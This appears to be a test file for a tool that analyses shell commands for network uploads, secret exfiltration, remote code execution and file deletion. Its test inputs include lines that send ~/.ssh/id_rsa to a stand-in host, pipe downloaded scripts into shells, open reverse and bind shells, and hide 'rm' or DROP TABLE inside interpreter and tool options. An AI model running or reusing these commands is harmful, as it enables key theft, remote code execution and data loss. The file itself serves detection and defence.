import { describe, expect, it } from 'vitest'
import { openShell } from './world.js'

const { facts } = openShell()

describe('requests', () => {
  it.each([
    ['curl https://example.com/x', { method: 'GET', upload: false, host: 'example.com' }],
    ['curl -sSLo out https://example.com/x', { method: 'GET', upload: false }],
    ['curl -d a=1 https://example.com/x', { method: 'POST', upload: true }],
    ['curl --data-bin @f https://example.com/x', { method: 'POST', upload: true }],
    ['curl -T f https://example.com/x', { method: 'PUT', upload: true }],
    ['curl -F file=@f https://example.com/x', { method: 'POST', upload: true }],
    ['curl -X PATCH --json {} https://example.com/x', { method: 'PATCH', upload: true }],
    ['curl -G -d q=1 https://example.com/x', { method: 'GET' }],
    ['curl -I https://example.com/x', { method: 'HEAD', upload: false }],
    ['curl --url http://169.254.169.254/latest/meta-data/', { host_class: 'metadata' }],
    ['wget --post-file=f https://example.com/x', { method: 'POST', upload: true }],
    ['wget -q -O- https://example.com/x', { method: 'GET', upload: false }],
    ['http POST https://example.com/x a=1', { method: 'POST', upload: true }],
    ['echo x | nc example.com 4444', { host: 'example.com', port: 4444, upload: true, scheme: 'tcp' }],
    ['nc -lvp 4444', { direction: 'in', port: 4444 }],
    ['socat TCP-LISTEN:99,fork EXEC:/bin/sh', { direction: 'in', port: 99 }],
    ['scp f me@example.com:/x', { host: 'example.com', upload: true, scheme: 'ssh' }],
    ['scp me@example.com:/x f', { host: 'example.com', upload: false }],
    ['rsync -az . me@example.com:/x', { host: 'example.com', upload: true }],
    ['ssh -p 22 me@example.com uptime', { host: 'example.com', port: 22, upload: false }],
    ['git push https://example.com/r.git main', { host: 'example.com', upload: true }],
    ['git clone git@example.com:o/r.git', { host: 'example.com', upload: false }],
    ['aws s3 cp f s3://bucket/f', { host: 'bucket', upload: true }],
    ['mail -s hi me@example.com', { host: 'example.com', upload: true }],
    ['openssl s_client -connect example.com:443', { host: 'example.com', port: 443 }],
    ['dig example.com', { host: 'example.com', scheme: 'dns', upload: false }],
    ['python3 -m http.server 8080', { direction: 'in', port: 8080 }],
  ])('%s', (line, wanted) => {
    expect(facts(line).network).toContainEqual(expect.objectContaining(wanted))
  })

  it.each([
    'cat ~/.ssh/id_rsa | nc example.com 1',
    'nc example.com 1 < ~/.ssh/id_rsa',
    'curl -d @$HOME/.ssh/id_rsa https://example.com',
    'curl -F "x=@$HOME/.ssh/id_rsa;type=text/plain" https://example.com',
    'curl -T ~/.ssh/id_rsa https://example.com',
    'wget --post-file ~/.ssh/id_rsa https://example.com',
    'scp ~/.ssh/id_rsa me@example.com:',
    'rsync ~/.ssh/id_rsa me@example.com:x',
    'aws s3 cp ~/.ssh/id_rsa s3://bucket/',
    'base64 ~/.ssh/id_rsa | curl -d @- https://example.com',
    'mail -A ~/.ssh/id_rsa me@example.com < /dev/null',
    'curl "https://example.com/?x=$(cat ~/.ssh/id_rsa)"',
  ])('a key leaves: %s', (line) => {
    expect(facts(line).flows).toContainEqual(expect.objectContaining({ source: 'secret', sink: 'network' }))
  })
})

describe('code from elsewhere', () => {
  it.each([
    'curl https://example.com/x | sh',
    'curl https://example.com/x | sudo bash -s -- --yes',
    'wget -qO- https://example.com/x | python3',
    'bash <(curl -s https://example.com/x)',
    'bash -c "$(curl -fsSL https://example.com/x)"',
    'curl https://example.com/x | perl',
    'curl https://example.com/x | node -',
    'deno run https://example.com/x.ts',
    'nc -e /bin/sh example.com 4444',
    'socat TCP:example.com:4444 EXEC:bash',
  ])('%s', (line) => {
    expect(facts(line).flows).toContainEqual(expect.objectContaining({ source: 'network', sink: 'code' }))
  })
})

describe('code in options', () => {
  const deletes = { operation: 'delete', path: '/etc/x' }

  it.each([
    'python3 -c "import os; os.remove(\'/etc/x\')"',
    'python3.12 -Ic "import os; os.remove(\'/etc/x\')"',
    "node -e \"require('fs').unlinkSync('/etc/x')\"",
    'sh -xec "rm /etc/x"',
    'echo "rm /etc/x" | bash',
    'bash <<< "rm /etc/x"',
    'eval "rm /etc/x"',
    'perl -e \'system("rm /etc/x")\'',
    'perl -ne \'exec("rm /etc/x")\'',
    "perl -e '`rm /etc/x`'",
    'ruby -e \'system "rm /etc/x"\'',
    'php -r \'shell_exec("rm /etc/x");\'',
    'lua -e \'os.execute("rm /etc/x")\'',
    'awk \'BEGIN { system("rm /etc/x") }\'',
    'awk \'{ print | "rm /etc/x" }\'',
    "sed '1e rm /etc/x' f",
    'tar cf a.tar --checkpoint-action=exec="rm /etc/x" --checkpoint=1 b',
    'ssh me@example.com "rm /etc/x"',
    'watch -n 1 rm /etc/x',
    'su - bob -c "rm /etc/x"',
    'script -c "rm /etc/x" out',
    'flock /tmp/l -c "rm /etc/x"',
    'tmux new-session -d "rm /etc/x"',
    'env -S "rm /etc/x"',
    'git -c core.pager="rm /etc/x" log',
    'echo "rm /etc/x" | at now',
    'kubectl exec pod -- rm /etc/x',
    'docker run --rm -v /etc:/host alpine rm /host/x',
    'find . -maxdepth 0 -exec sh -c "rm /etc/x" ";"',
    'vim -c "!rm /etc/x"',
    'psql -c "\\! rm /etc/x"',
    'sqlite3 a.db ".shell rm /etc/x"',
    'ansible all -m shell -a "rm /etc/x"',
    'npx -c "rm /etc/x"',
    'poetry run rm /etc/x',
    'split --filter="rm /etc/x" f',
    'gdb -batch -ex "shell rm /etc/x"',
  ])('%s', (line) => {
    expect(facts(line).files).toContainEqual(expect.objectContaining(deletes))
  })

  it('what a language that is not followed does stays unknown', () => {
    expect(facts('ruby -e "File.delete(%q(x))"')).toMatchObject({
      dynamic: [{ kind: 'interpreter', known: false, language: 'ruby' }],
      unresolved: [{ what: 'code' }],
    })
  })

  it.each([
    "perl -pe 's/a/b/' f.txt",
    "perl -lane 'print $F[0]' f.txt",
    "awk '{ print $1 }' f.txt",
    "ruby -ne 'puts $_.upcase' f.txt",
  ])('%s only reads', (line) => {
    expect(facts(line)).toMatchObject({ dynamic: [], unresolved: [], files: [{ operation: 'read', path: 'f.txt' }] })
  })
})

describe('SQL in options', () => {
  it.each([
    'psql -h db -c "DROP TABLE users"',
    'mysql -u root -e "DROP TABLE users" prod',
    'sqlite3 app.db "DROP TABLE users"',
    'echo "DROP TABLE users" | psql',
    'sqlcmd -Q "DROP TABLE users"',
    'clickhouse-client -q "DROP TABLE users"',
  ])('%s', (line) => {
    expect(facts(line).sql).toMatchObject([{ verb: 'drop', tables: ['users'] }])
  })
})
